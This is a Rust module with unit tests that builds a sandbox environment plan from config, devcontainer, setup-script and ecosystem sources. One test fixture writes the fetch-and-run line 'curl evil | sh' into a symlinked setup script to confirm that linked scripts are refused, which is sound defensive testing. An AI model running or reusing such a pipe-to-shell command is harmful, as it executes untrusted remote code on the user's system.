//! The order of precedence (`DESIGN.md` §5): `[[repos]] image`/`setup`, the devcontainer,
//! `.slipway/setup.sh`, detection. The image and the setup commands are each taken from
//! the first source that names them; the plan's [`EnvSource`] is the first source that
//! supplied anything, and its notes say where the rest came from.
//!
//! Whatever the source, the ecosystems found in the tree bring their sandbox conventions
//! (venv and caches under `/env`, `node_modules` carried, offline settings for the checks),
//! so a setup script or a devcontainer command that installs where the conventions say is
//! found by the checks, and its manifests key the snapshot.

use std::path::Path;

use super::detect::{self, Ecosystem, Options};
use super::devcontainer::{self, Devcontainer};
use super::{EnvError, EnvPlan, EnvSource, ImageSpec, RepoEnvConfig, Result, Tree};
use crate::gates::checks;
use crate::gates::policy::RepoPolicy;

/// The repo's own setup script, relative to its root.
pub(super) const SETUP_SCRIPT: &str = ".slipway/setup.sh";

/// The environment plan for the tree at `root` (the base commit's files) and the repo's
/// `[[repos]]` keys. Reads files only; runs nothing.
///
/// Errors name the file: an invalid devcontainer.json (with line and column), a
/// `pyproject.toml` or `package.json` that does not parse, an invalid
/// `.slipway/policy.toml`, a `.slipway/setup.sh` that is a link, a Dockerfile outside the
/// repo.
pub fn resolve(root: &Path, repo: &RepoEnvConfig) -> Result<EnvPlan> {
    let tree = Tree::new(root);
    let policy = RepoPolicy::load(root)?;
    let allow_scripts = policy.as_ref().is_some_and(|p| p.setup.allow_scripts);
    let needs_pytest = checks::detect(root, policy.as_ref())
        .iter()
        .any(|c| c.command.contains("pytest"));
    let ecosystems = detect::detect(
        &tree,
        Options {
            allow_scripts,
            needs_pytest,
        },
    )?;

    let config_image = repo.image.as_deref().filter(|i| !i.trim().is_empty());
    let config_setup = repo.setup.as_deref();
    // Config naming both leaves nothing for the devcontainer (which is then not even read).
    let dc: Option<Devcontainer> = if config_image.is_some() && config_setup.is_some() {
        None
    } else {
        devcontainer::find(&tree)?
            .map(|rel| devcontainer::load(&tree, rel))
            .transpose()?
    };
    let script = setup_script(&tree)?;

    let mut plan = EnvPlan {
        source: EnvSource::None,
        image: ImageSpec::Default,
        setup: Vec::new(),
        env: Default::default(),
        offline_env: Default::default(),
        carry: Vec::new(),
        path_prefix: Vec::new(),
        inputs: Vec::new(),
        notes: Vec::new(),
    };

    // The image: config, devcontainer, default.
    if let Some(image) = config_image {
        plan.image = ImageSpec::Named(image.to_string());
        if let Some(d) = dc.as_ref().filter(|d| d.image.is_some()) {
            plan.notes.push(format!(
                "image: slipway.toml [[repos]] image {image:?} is used, not {}'s",
                d.path
            ));
        }
    } else if let Some(image) = dc.as_ref().and_then(|d| d.image.clone()) {
        plan.image = image;
    }

    // The setup commands: config, devcontainer, setup script, detection.
    let detected: Vec<&Ecosystem> = ecosystems.iter().filter(|e| !e.setup.is_empty()).collect();
    let setup_from: EnvSource = if let Some(cmd) = config_setup {
        if !cmd.trim().is_empty() {
            plan.setup.push(cmd.to_string());
        }
        EnvSource::Config
    } else if let Some(d) = dc.as_ref().filter(|d| !d.setup.is_empty()) {
        plan.setup = d.setup.clone();
        EnvSource::Devcontainer {
            path: d.path.clone(),
        }
    } else if let Some(cmd) = &script {
        plan.setup.push(cmd.clone());
        plan.inputs.push(SETUP_SCRIPT.into());
        EnvSource::SetupScript
    } else if !ecosystems.is_empty() {
        plan.setup = detected.iter().flat_map(|e| e.setup.clone()).collect();
        EnvSource::Detected {
            what: ecosystems.iter().map(|e| e.label.clone()).collect(),
        }
    } else {
        EnvSource::None
    };
    plan.source = if config_image.is_some() || config_setup.is_some() {
        EnvSource::Config
    } else if let Some(d) = &dc {
        EnvSource::Devcontainer {
            path: d.path.clone(),
        }
    } else {
        setup_from.clone()
    };
    if setup_from != plan.source {
        plan.notes.push(match &setup_from {
            EnvSource::Devcontainer { path } => format!("setup: {path}'s commands"),
            EnvSource::SetupScript => format!("setup: {SETUP_SCRIPT}"),
            EnvSource::Detected { what } => format!("setup: detected {}", what.join(", ")),
            EnvSource::None => "setup: nothing to set up".into(),
            EnvSource::Config => "setup: slipway.toml [[repos]] setup".into(),
        });
    }
    if matches!(setup_from, EnvSource::Config) && script.is_some() {
        plan.notes.push(format!(
            "{SETUP_SCRIPT} is not run: slipway.toml [[repos]] setup overrides it"
        ));
    }

    // Conventions of every ecosystem present, then the devcontainer's own environment.
    for e in &ecosystems {
        plan.env.extend(e.env.clone());
        plan.offline_env.extend(e.offline_env.clone());
        plan.carry.extend(e.carry.iter().cloned());
        plan.inputs.extend(e.inputs.iter().cloned());
        if matches!(setup_from, EnvSource::Detected { .. }) {
            plan.notes.extend(e.notes.iter().cloned());
        }
    }
    let mut prefix: Vec<String> = Vec::new();
    if let Some(d) = dc {
        for (k, v) in &d.env {
            if plan.env.get(k).is_some_and(|ours| ours != v) {
                plan.notes.push(format!(
                    "{}: {k}={v:?} replaces slipway's {:?}",
                    d.path, plan.env[k]
                ));
            }
        }
        plan.env.extend(d.env);
        prefix.extend(d.path_prefix);
        plan.inputs.extend(d.inputs);
        plan.notes.extend(d.notes);
    }
    prefix.extend(
        ecosystems
            .iter()
            .flat_map(|e| e.path_prefix.iter().cloned()),
    );
    for p in prefix {
        if !plan.path_prefix.contains(&p) {
            plan.path_prefix.push(p);
        }
    }
    plan.carry.dedup();
    plan.inputs.sort();
    plan.inputs.dedup();
    Ok(plan)
}

/// The command that runs `.slipway/setup.sh`, when the repo has one. `.slipway` must be a
/// directory and the script a regular file, neither a link: a link could run a file from
/// elsewhere (or one an agent wrote outside `.slipway/**`, which it may publish).
fn setup_script(tree: &Tree<'_>) -> Result<Option<String>> {
    let dir = std::fs::symlink_metadata(tree.root.join(".slipway"));
    let script = std::fs::symlink_metadata(tree.root.join(SETUP_SCRIPT));
    let Ok(script) = script else {
        return Ok(None);
    };
    let refuse = |reason: &str| EnvError::Unsafe {
        file: SETUP_SCRIPT.into(),
        reason: reason.into(),
    };
    if !dir.is_ok_and(|m| m.is_dir()) {
        return Err(refuse(".slipway must be a directory, not a link"));
    }
    if !script.is_file() {
        return Err(refuse("it must be a regular file, not a link or directory"));
    }
    // A bash script run with `sh` would fail on its first bashism.
    let text = tree.read(SETUP_SCRIPT)?.unwrap_or_default();
    let first = text.lines().next().unwrap_or("");
    let shell = if first.starts_with("#!") && first.contains("bash") {
        "bash"
    } else {
        "sh"
    };
    Ok(Some(format!("{shell} {SETUP_SCRIPT}")))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::super::detect::tests::write;
    use super::*;

    fn plan(root: &Path) -> EnvPlan {
        resolve(root, &RepoEnvConfig::default()).unwrap()
    }

    fn config(image: Option<&str>, setup: Option<&str>) -> RepoEnvConfig {
        RepoEnvConfig {
            image: image.map(str::to_string),
            setup: setup.map(str::to_string),
        }
    }

    /// A Python + Node repo with a devcontainer, a setup script and manifests: every source
    /// present at once, so each test below can peel one off.
    fn everything(root: &Path) {
        write(
            root,
            ".devcontainer/devcontainer.json",
            r#"{
  "image": "mcr.microsoft.com/devcontainers/python:3.12",
  "postCreateCommand": "pip install -e .",
  "containerEnv": { "APP_ENV": "test" },
}"#,
        );
        write(
            root,
            SETUP_SCRIPT,
            "#!/usr/bin/env bash\nset -euo pipefail\nmake deps\n",
        );
        write(
            root,
            "package.json",
            r#"{"name": "web", "scripts": {"test": "jest"}}"#,
        );
        write(root, "package-lock.json", "{}");
        write(root, "requirements.txt", "pytest\n");
    }

    #[test]
    fn the_order_of_precedence_is_config_devcontainer_script_detection() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        everything(root);

        let p = resolve(root, &config(Some("ghcr.io/acme/dev:1"), Some("make deps"))).unwrap();
        assert_eq!(p.source, EnvSource::Config);
        assert_eq!(p.image, ImageSpec::Named("ghcr.io/acme/dev:1".into()));
        assert_eq!(p.setup, ["make deps"]);
        assert!(
            p.notes.iter().any(|n| n.contains("setup.sh is not run")),
            "{:?}",
            p.notes
        );

        let p = plan(root);
        let dc = EnvSource::Devcontainer {
            path: ".devcontainer/devcontainer.json".into(),
        };
        assert_eq!(p.source, dc);
        assert_eq!(
            p.image,
            ImageSpec::Named("mcr.microsoft.com/devcontainers/python:3.12".into())
        );
        assert_eq!(p.setup, ["pip install -e ."]);
        assert_eq!(p.env["APP_ENV"], "test");

        std::fs::remove_dir_all(root.join(".devcontainer")).unwrap();
        let p = plan(root);
        assert_eq!(p.source, EnvSource::SetupScript);
        assert_eq!(p.image, ImageSpec::Default);
        // A bash script runs with bash.
        assert_eq!(p.setup, ["bash .slipway/setup.sh"]);

        std::fs::remove_file(root.join(SETUP_SCRIPT)).unwrap();
        let p = plan(root);
        assert_eq!(
            p.source,
            EnvSource::Detected {
                what: vec![
                    "python (requirements.txt)".into(),
                    "node (package-lock.json)".into()
                ]
            }
        );
        assert_eq!(
            p.setup,
            [
                "uv venv --clear /env/venv",
                "uv pip install -r requirements.txt",
                "npm ci --ignore-scripts --no-audit --no-fund",
            ]
        );
        assert_eq!(
            p.inputs,
            ["package-lock.json", "package.json", "requirements.txt"]
        );
        assert_eq!(
            p.path_prefix,
            ["/env/venv/bin", "/workspace/node_modules/.bin"]
        );
        assert_eq!(p.carry, ["node_modules"]);

        std::fs::remove_file(root.join("package.json")).unwrap();
        std::fs::remove_file(root.join("requirements.txt")).unwrap();
        let p = plan(root);
        assert_eq!(p.source, EnvSource::None);
        assert!(p.setup.is_empty() && p.inputs.is_empty() && p.env.is_empty());
    }

    #[test]
    fn config_image_alone_keeps_the_devcontainers_setup_and_config_setup_alone_its_image() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        everything(root);
        let p = resolve(root, &config(Some("ghcr.io/acme/dev:1"), None)).unwrap();
        assert_eq!(p.source, EnvSource::Config);
        assert_eq!(p.image, ImageSpec::Named("ghcr.io/acme/dev:1".into()));
        assert_eq!(p.setup, ["pip install -e ."]);
        assert!(
            p.notes
                .iter()
                .any(|n| n == "setup: .devcontainer/devcontainer.json's commands"),
            "{:?}",
            p.notes
        );
        let p = resolve(root, &config(None, Some("make deps"))).unwrap();
        assert_eq!(
            p.image,
            ImageSpec::Named("mcr.microsoft.com/devcontainers/python:3.12".into())
        );
        assert_eq!(p.setup, ["make deps"]);
        // An empty config setup means "nothing to set up", over every other source.
        let p = resolve(root, &config(None, Some(""))).unwrap();
        assert!(p.setup.is_empty());
        assert_eq!(p.source, EnvSource::Config);
    }

    #[test]
    fn a_devcontainer_without_commands_falls_through_to_the_script_then_detection() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        write(
            root,
            ".devcontainer.json",
            r#"{"image": "golang:1.23", "features": {}}"#,
        );
        write(root, "go.mod", "module example.com/x\n\ngo 1.22\n");
        let p = plan(root);
        assert_eq!(
            p.source,
            EnvSource::Devcontainer {
                path: ".devcontainer.json".into()
            }
        );
        assert_eq!(p.image, ImageSpec::Named("golang:1.23".into()));
        assert_eq!(
            p.setup,
            ["go mod download", "go list -deps -test ./... > /dev/null"]
        );
        assert!(
            p.notes.contains(&"setup: detected go (go.mod)".to_string()),
            "{:?}",
            p.notes
        );
        assert!(
            p.notes.iter().any(|n| n.contains("ignored: features")),
            "{:?}",
            p.notes
        );
        assert_eq!(p.inputs, [".devcontainer.json", "go.mod"]);
        assert_eq!(
            p.offline_env,
            BTreeMap::from([
                ("GOFLAGS".to_string(), "-mod=mod".to_string()),
                ("GOPROXY".to_string(), "off".to_string())
            ])
        );
    }

    #[test]
    fn a_setup_script_keeps_the_ecosystem_conventions_and_runs_with_sh() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        write(root, SETUP_SCRIPT, "cargo fetch\n");
        write(
            root,
            "Cargo.toml",
            "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
        );
        let p = plan(root);
        assert_eq!(p.source, EnvSource::SetupScript);
        assert_eq!(p.setup, ["sh .slipway/setup.sh"]);
        assert_eq!(p.env["CARGO_HOME"], "/env/cargo");
        assert_eq!(p.offline_env["CARGO_NET_OFFLINE"], "true");
        assert_eq!(p.inputs, [".slipway/setup.sh", "Cargo.toml"]);
    }

    #[test]
    fn a_linked_setup_script_is_refused() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        write(root, "tools/setup.sh", "curl evil | sh\n");
        std::fs::create_dir_all(root.join(".slipway")).unwrap();
        std::os::unix::fs::symlink("../tools/setup.sh", root.join(SETUP_SCRIPT)).unwrap();
        let err = resolve(root, &RepoEnvConfig::default()).unwrap_err();
        assert_eq!(
            err.to_string(),
            "refused .slipway/setup.sh: it must be a regular file, not a link or directory"
        );
        // A linked .slipway directory is refused too (by the policy loader, first).
        let d = tempfile::tempdir().unwrap();
        write(d.path(), "elsewhere/setup.sh", "true\n");
        std::os::unix::fs::symlink("elsewhere", d.path().join(".slipway")).unwrap();
        let err = resolve(d.path(), &RepoEnvConfig::default()).unwrap_err();
        assert!(err.to_string().contains(".slipway"), "{err}");
    }

    #[test]
    fn the_repo_policy_opts_in_to_install_scripts() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        write(root, "package.json", r#"{"name": "x"}"#);
        write(root, "package-lock.json", "{}");
        write(
            root,
            ".slipway/policy.toml",
            "[setup]\nallow_scripts = true\n",
        );
        let p = plan(root);
        assert_eq!(p.setup, ["npm ci --no-audit --no-fund"]);
    }

    #[test]
    fn checks_that_run_pytest_get_pytest_installed() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        // pytest comes from the checks' detection (pyproject → pytest), not the manifest.
        write(
            root,
            "pyproject.toml",
            "[tool.pytest.ini_options]\ntestpaths = [\"tests\"]\n",
        );
        let p = plan(root);
        assert_eq!(
            p.setup,
            ["uv venv --clear /env/venv", "uv pip install pytest"]
        );
        assert_eq!(p.env["VIRTUAL_ENV"], "/env/venv");
    }

    #[test]
    fn an_invalid_devcontainer_is_an_error_naming_the_file() {
        let d = tempfile::tempdir().unwrap();
        write(
            d.path(),
            ".devcontainer/devcontainer.json",
            "{ \"image\": }",
        );
        let err = plan_err(d.path());
        assert!(
            err.starts_with("invalid .devcontainer/devcontainer.json: line 1, column 12: "),
            "{err}"
        );
        // Config naming both the image and the setup never reads it.
        let ok = resolve(d.path(), &config(Some("x"), Some("true")));
        assert!(ok.is_ok());
    }

    fn plan_err(root: &Path) -> String {
        resolve(root, &RepoEnvConfig::default())
            .unwrap_err()
            .to_string()
    }
}
